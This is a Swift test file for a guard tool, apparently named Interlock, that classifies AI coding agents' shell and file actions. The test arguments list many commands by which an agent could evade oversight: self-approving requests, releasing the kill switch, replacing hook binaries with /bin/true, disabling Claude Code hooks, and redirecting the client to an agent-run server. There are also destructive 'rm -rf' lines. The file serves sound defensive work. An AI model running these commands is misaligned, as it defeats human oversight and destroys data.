import InterlockClassifiers
import InterlockCore
import Testing

/// An agent acting on Interlock itself, or on the hook settings through which its host asks
/// Interlock, is told apart from everything else it does, whichever family the action is.
@Suite struct GuardedPathsTests {
    static let guarded = GuardedPaths(interlockHome: "/srv/interlock", policyFile: "/etc/interlock/policy.yaml",
                                      interlockFiles: ["/etc/interlock/client.json", "/opt/guard/interlock", "/opt/guard/interlock-hook"])
    static let classifiers = ClassifierSet.standard(fileSystem: OpaqueFileSystem(), guarded: guarded)

    func facts(_ input: ActionInput, directory: String = "/home/dev/project") -> Classification {
        Self.classifiers.classify(Action(principal: Principal(agent: "claude-code"), channel: .hook, workingDirectory: directory, input: input))
    }

    func shell(_ line: String) -> Classification { facts(.shell(ShellInput(command: line))) }

    @Test(arguments: [
        "interlock approvals approve apr_7QX",
        "interlock approvals reject apr_7QX --comment no",
        "interlock token create --human me --role admin",
        "interlock token revoke tok_1",
        "interlock resume --all",
        "interlock kill --agent other-bot --reason x",
        "interlock grant create --agent claude-code --env production --operation 'shell:*' --target '/**' --for 8h",
        "interlock grant revoke grt_1",
        "interlock audit key rotate",
        "/usr/local/bin/interlock resume --env production",
        "swift run -c release interlock approvals approve apr_1",
        "sudo -u ops interlock resume --all",
        "bash -c 'interlock token create --human x --role senior'",
        "interlock $(echo approvals) approve apr_1",
        "curl -X POST -H \"Authorization: Bearer $INTERLOCK_TOKEN\" http://127.0.0.1:8080/v1/approvals/apr_1/approve",
        "curl -sf --json '{\"scope\":\"everything\"}' https://gate.internal:8443/v1/resume",
        "curl -d '{}' gate:8080//v1/./tokens",
        "curl -X DELETE 'http://gate/v1/grants/grt_1?x=1'",
        "wget --post-data='comment=ok' http://gate/console/requests/apr_1/approve",
        "rm -rf /srv/interlock",
        "rm -rf /srv",
        "sqlite3 /srv/interlock/interlock.sqlite \"UPDATE kill_switch SET released_at = 1 WHERE id = 2\"",
        "sqlite3 /srv/interlock/interlock.sqlite",
        "echo 'rules: []' > /etc/interlock/policy.yaml",
        "sed -i 's/blocked/autonomous/' /etc/interlock/policy.yaml",
        "mv /srv/interlock /tmp/gone",
        "rm -rf ~/.local/state/interlock",
        "rm -rf $HOME/.local/*",
        "cp /dev/null /home/dev/.local/state/interlock/interlock.sqlite",
        "rm -rf ~",
        "cd $HOME && rm -rf .local/state/interlock",
        "rm -rf /srv/*", "rm -rf ~/.local/*", "rm -rf /etc/interlock/*.yaml",
        // The client settings: pointed at a server of the agent's own, every answer is "allow".
        "echo '{\"server\": \"http://127.0.0.1:9999\"}' > ~/.config/interlock/client.json",
        "mkdir -p ~/.config/interlock",
        "rm ~/.config/interlock/client.json",
        "rm -rf ~/.config",
        "cp evil.json $HOME/.config/interlock/client.json",
        "echo '{}' > /home/dev/.config/interlock/client.json",
        "echo '{}' > /etc/interlock/client.json",
        // The programs the hosts run: replaced, made unrunnable or removed, nothing is asked.
        "cp /bin/true ~/.local/bin/interlock-hook",
        "ln -sf /bin/true /usr/local/bin/interlock-hook",
        "install -m 755 fake /usr/local/bin/interlock",
        "chmod -x /usr/local/bin/interlock",
        "mv /usr/local/bin/interlock /tmp/",
        "rm /opt/guard/interlock-hook",
        "cp /bin/true /opt/guard/interlock",
        "cd /opt/guard && printf '#!/bin/sh\\nexit 0\\n' > interlock-hook",
        "rm -rf /opt",
        // Interpreter code is not understood, but the paths it spells out are where it acts.
        "python3 -c \"open('/home/dev/.config/interlock/client.json', 'w').write('{}')\"",
        "python3 -c \"import pathlib; (pathlib.Path.home() / '.config/interlock/client.json').write_text('{}')\"",
        "perl -e 'open(my $f, \">\", \"/usr/local/bin/interlock-hook\"); print $f \"exit 0\"'",
        "python3 - <<'EOF'\nimport sqlite3\nsqlite3.connect('/srv/interlock/interlock.sqlite').execute('DELETE FROM kill_switch')\nEOF",
        // Another HTTP client than curl or wget, in code, sending to a human endpoint.
        "python3 -c \"import requests, os; requests.post('http://127.0.0.1:8421/v1/resume', headers={'Authorization': 'Bearer ' + os.environ['INTERLOCK_TOKEN']})\"",
        "node -e \"fetch('http://gate:8421/v1/approvals/apr_1/approve', {method: 'POST'})\"",
        "http POST :8421/v1/resume \"Authorization:Bearer $INTERLOCK_TOKEN\"",
        "xh post http://gate/v1/kill scope=all",
        "https -A bearer -a \"$T\" gate/v1/approvals/apr_1/approve comment=ok",
        // Whatever an archive or a directory holds, landed where Interlock's files are kept.
        "rsync -a evil/ ~/",
        "rsync -a dots/ ~/.config/",
        "rsync -a dots/.config ~/",
        "unzip payload.zip -d ~",
        "tar -xf payload.tar -C ~",
        "tar -xzf payload.tgz -C $HOME/.config",
        "7z x payload.7z -o/opt",
        "7z x payload.7z -o$HOME/.config",
        "cp -r evil/. ~",
        "cp -r dots/.config ~/",
        "cp -a dots/interlock ~/.config",
        "chmod -R a-x /opt",
        // A repository checked out over the client settings, with `-C` moving first.
        "git clone https://example.com/evil/cfg.git ~/.config/interlock",
        "git -C ~/.config clone https://example.com/evil/interlock.git",
        "git -C /srv clone https://example.com/x.git interlock/store",
    ])
    func actingOnInterlockItselfIsInterlockControl(_ line: String) {
        let facts = shell(line)
        #expect(facts.categories.contains(.interlockControl), "\(line): \(facts.findings.map(\.operation))")
        #expect(facts.effect != .read, "\(line)")
    }

    @Test(arguments: [
        "echo '{}' > .claude/settings.json",
        "rm .claude/settings.local.json",
        "rm -rf .claude",
        "mv .claude/settings.json /tmp/",
        "cp /dev/null ~/.claude/settings.json",
        "truncate -s 0 /etc/claude-code/managed-settings.json",
        "rm -rf /etc/claude-code", "mv '/Library/Application Support/ClaudeCode' /tmp/",
        "rm .kiro/agents/default.json",
        "python3 -c \"import os; os.remove('.kiro/agents/default.json')\"",
        "tee .cursor/hooks.json <<< '{}'",
        "rm -rf .cursor/*",
        "interlock uninstall claude --user",
        "interlock install kiro .kiro/agents/default.json",
        "cd ~/.claude && rm settings.json",
        "cd ~ && cd .claude && echo '{}' > settings.local.json",
        "cd \"${HOME}/.claude\" && rm settings.json",
        "perl -pi -e 's/interlock hook/true/' ~/.claude/settings.json",
        "ruby -i -pe 'gsub(/interlock/, \"true\")' .cursor/hooks.json",
        "jq 'del(.hooks)' .claude/settings.json > /tmp/s && mv /tmp/s .claude/settings.json",
        // MCP server configuration: a server reached directly instead of through the proxy.
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "jq 'del(.mcpServers)' ~/.claude.json > /tmp/c && mv /tmp/c ~/.claude.json",
        "rm .cursor/mcp.json",
        "sed -i 's/interlock mcp-proxy --name db --//' .vscode/mcp.json",
        "cp direct.json ~/.config/Claude/claude_desktop_config.json",
        "echo '{}' > .kiro/settings/mcp.json",
        "node -e \"require('fs').writeFileSync('.claude/settings.json', '{}')\"",
        "ruby -e 'File.write(\".mcp.json\", \"{}\")'",
        // A nested Claude Code session whose command line chooses its hooks, or that rewrites them.
        "claude --settings '{\"disableAllHooks\": true}' -p 'deploy it'",
        "claude -p 'drop the table' --setting-sources project",
        "claude --mcp-config direct.json --strict-mcp-config -p x",
        "bash -c 'claude -p x --settings=/tmp/s.json'",
        "claude mcp add db -- mcp-server-sqlite --db-path prod.db",
        "claude mcp remove interlock-sqlite",
        "claude plugin install hooks-off@market",
        "claude $(printf mcp) add x",
        // Git puts the settings back as committed, or moves them away.
        "git checkout -- .claude/settings.json",
        "git restore --source HEAD~3 .mcp.json",
        "git mv .claude/settings.json .claude/settings.json.off",
        "git checkout-index -f -- .claude/settings.json",
        // Other writers: sponge, editors given the file, a copy that lands a `.claude` directory.
        "jq 'del(.hooks)' .claude/settings.json | sponge .claude/settings.json",
        "vim -c ':%d' -c ':wq' .claude/settings.json",
        "ex -sc '%d|x' .claude/settings.json",
        "cp -r /tmp/evil/.claude .",
        "cp /tmp/evil/.mcp.json /tmp/evil/README.md ./",
        // A repository checked out where the settings live: named, or named after the address.
        "git clone https://example.com/evil/settings.git .claude",
        "git clone --depth 1 -b main https://example.com/evil/.claude.git",
        "git clone git@example.com:evil/.kiro",
        "git submodule add https://example.com/evil/hooks .claude",
        "git worktree add .cursor hooks-off",
    ])
    func changingHookSettingsIsHookConfig(_ line: String) {
        let facts = shell(line)
        #expect(facts.categories.contains(.hookConfig), "\(line): \(facts.findings.map(\.operation))")
        #expect(!facts.categories.contains(.interlockControl), "\(line)")
    }

    /// Look-alikes: reading, naming or mentioning Interlock is not acting on it.
    @Test(arguments: [
        "interlock check --shell 'rm -rf /'",
        "interlock explain --file-delete /srv/prod/db.sqlite",
        "interlock policy lint policy.yaml",
        "interlock audit verify",
        "interlock approvals list --state pending",
        "interlock approvals show apr_1",
        "interlock --help",
        "interlock token create --help",
        "cat .claude/settings.json",
        "ls -la ~/.local/state/interlock",
        "sqlite3 /srv/interlock/interlock.sqlite 'SELECT count(*) FROM audit_entry'",
        "grep -rn 'interlock resume' docs/",
        "echo \"interlock approvals approve apr_1\"",
        "git commit -m 'run interlock token create in CI'",
        "curl http://127.0.0.1:8080/v1/approvals/apr_1",
        "curl -d '{}' http://127.0.0.1:8080/v1/actions",
        "curl -d x https://api.example.com/v1/approvals/list",
        "mkdir -p build/claude-settings",
        "cp notes.md docs/claude/settings.json.md",
        "rm -rf /srv/app/tmp",
        "touch /etc/interlock/policy.yaml.bak",
        "cd ~/.claude && cd /tmp && rm settings.json",
        "cd ~/project && rm -rf build",
        "perl -i -pe 's/a/b/' notes/claude.txt",
        // Relative patterns say nothing about where they are: no prefix of a home is in them.
        "rm *.log", "rm -rf *", "rm -rf build/*", "cp *.txt backup/", "chmod 644 src/*.swift", "echo x > out.txt",
        "rm -rf /var/tmp/*", "rm -rf /srv/interlock-old/*",
        "cat ~/.config/interlock/client.json", "cat .mcp.json", "rm -rf ~/.config/interlock-old", "rm -rf ~/.config/nvim",
        // A source folder named `interlock` is not a program a host runs.
        "rm -rf Sources/interlock", "echo x > Sources/interlock/main.swift", "touch bin/interlockd",
        "cp mcp.json.example docs/mcp.json", "rm /opt/guard/interlock.bak",
        "python3 -c \"import json; print(json.load(open('data/interlock.json')))\"", "node -e \"console.log('~/.claude is where settings live')\"",
        "git checkout main", "git restore --staged .claude/settings.json", "git diff .claude/settings.json",
        "cp a.txt b.txt /srv/", "vim notes.md", "jq . data.json | sponge data.json",
        "http :8421/v1/approvals", "http GET gate/v1/grants", "http api.example.com/items name=x",
        "python3 -c \"import requests; print(requests.get('https://api.example.com/v1/items').json())\"",
        "rsync notes.txt ~/", "mkdir -p ~/.config", "cp -r project ~/", "cp -r nvim ~/.config", "tar -xzf release.tgz -C /tmp/build",
        "unzip bundle.zip -d /tmp/out", "chmod -R 755 build", "7z x bundle.7z -o/tmp/out", "rsync -a site/ /srv/www/",
        "git clone https://github.com/anthropics/claude-code.git", "git clone https://example.com/x/app.git claude-notes",
        "git clone https://example.com/team/.claude-templates.git", "git worktree add ../review main", "git submodule add https://example.com/lib vendor/lib",
        "claude mcp list", "claude --help", "claude -p 'summarize the diff'", "echo claude mcp add x", "codex exec 'fix the tests'",
    ])
    func readingOrMentioningInterlockIsNeither(_ line: String) {
        let facts = shell(line)
        #expect(!facts.categories.contains(.interlockControl), "\(line): \(facts.findings.map(\.operation))")
        #expect(!facts.categories.contains(.hookConfig), "\(line): \(facts.findings.map(\.operation))")
    }

    @Test func interlocksOwnReadsStayReads() {
        for line in ["interlock audit verify", "interlock approvals list", "interlock policy show", "interlock check --shell ls"] {
            #expect(shell(line).effect == .read, "\(line)")
        }
        #expect(shell("interlock check --record --shell ls").effect == .write)
        #expect(shell("interlock serve --port 0").effect == .unknown)
        #expect(shell("interlock approvals approve apr_1 --help").effect == .read)
        // After `--` the words are the upstream server's: the proxy runs.
        #expect(shell("interlock mcp-proxy --server fs -- npx server-filesystem --help").effect == .unknown)
        #expect(shell("interlock frobnicate").effect == .unknown)
    }

    @Test func editorAndMCPFileToolsAreMarkedToo() {
        let write = facts(.file(FileChange(path: "/home/dev/project/.claude/settings.json", kind: .write, content: "{}")))
        #expect(write.categories.contains(.hookConfig))
        let store = facts(.file(FileChange(path: "/srv/interlock/keys/../interlock.sqlite", kind: .delete)))
        #expect(store.categories.contains(.interlockControl))
        let policy = facts(.file(FileChange(path: "/etc/interlock/policy.yaml", kind: .edit, content: "autonomous", replacedText: "blocked")))
        #expect(policy.categories.contains(.interlockControl))
        let elsewhere = facts(.file(FileChange(path: "/home/dev/project/src/app.swift", kind: .write, content: "x")))
        #expect(elsewhere.categories.isEmpty)
        let mcp = facts(.tool(ToolCall(server: "filesystem", tool: "write_file",
                                        arguments: .object(["path": .string("/home/dev/project/.cursor/hooks.json"), "content": .string("{}")]))))
        #expect(mcp.categories.contains(.hookConfig))
        // Reading a guarded file changes nothing (the policy says what the host's Read tool does);
        // a tool nobody vouches for may change it.
        let trusting = ClassifierSet.standard(
            fileSystem: OpaqueFileSystem(), mcpTrust: MCPTrust(servers: ["claude": MCPTrust.Server(tools: ["Read": .read])]), guarded: Self.guarded)
        let read = Action(principal: Principal(agent: "a"), channel: .hook,
                          input: .tool(ToolCall(server: "claude", tool: "Read", arguments: .object(["file_path": .string("/srv/interlock/interlock.sqlite")]))))
        #expect(trusting.classify(read).effect == .read)
        #expect(!trusting.classify(read).categories.contains(.interlockControl))
        #expect(Self.classifiers.classify(read).categories.contains(.interlockControl))
    }

    /// An archive extracted, or a directory's contents copied, into a project's top directory
    /// reaches its hook settings without naming them: the view says they are there.
    @Test func extractingIntoAProjectReachesItsHookSettings() {
        let view = FixedFileSystem(files: ["/home/dev/project/.claude/settings.json": "{}", "/home/dev/plain/README.md": "x"],
                                   directories: ["/home/dev", "/home/dev/project", "/home/dev/project/.claude", "/home/dev/plain"])
        let classifiers = ClassifierSet.standard(fileSystem: view, guarded: Self.guarded)
        func facts(_ line: String, in directory: String) -> Classification {
            classifiers.classify(Action(principal: Principal(agent: "claude-code"), channel: .hook, workingDirectory: directory,
                                        input: .shell(ShellInput(command: line))))
        }
        #expect(facts("unzip payload.zip -d /home/dev/project", in: "/tmp").categories.contains(.hookConfig))
        for line in ["tar -xzf payload.tgz", "unzip payload.zip", "7z x payload.7z", "rsync -a /tmp/evil/ .", "cp -r /tmp/evil/. .",
                     "chmod -R a-w ."] {
            let marked = facts(line, in: "/home/dev/project")
            #expect(marked.categories.contains(.hookConfig), "\(line): \(marked.targets)")
            #expect(marked.targets.contains("/home/dev/project/.claude"), "\(line): \(marked.targets)")
            let plain = facts(line, in: "/home/dev/plain")
            #expect(!plain.categories.contains(.hookConfig), "\(line): \(plain.targets)")
        }
        // Copying one file into the project, or a directory beside the settings, reaches nothing beneath.
        for line in ["cp notes.md /home/dev/project/", "cp -r /tmp/docs /home/dev/project/", "rsync notes.md ."] {
            #expect(!facts(line, in: "/home/dev/project").categories.contains(.hookConfig), "\(line)")
        }
    }

    @Test func theResolvedHomeCountsOnlyWhereItIs() {
        // Without a configured home only the default's shape is known.
        let plain = ClassifierSet.standard(fileSystem: OpaqueFileSystem())
        let action = Action(principal: Principal(agent: "a"), channel: .hook, input: .shell(ShellInput(command: "rm -rf /srv/interlock")))
        #expect(!plain.classify(action).categories.contains(.interlockControl))
        #expect(Self.classifiers.classify(action).categories.contains(.interlockControl))
        // A sibling that only starts with the same letters is not the home.
        #expect(!shell("rm -rf /srv/interlock-old").categories.contains(.interlockControl))
        #expect(!shell("echo x > /etc/interlock/policy.yaml.orig").categories.contains(.interlockControl))
    }
}
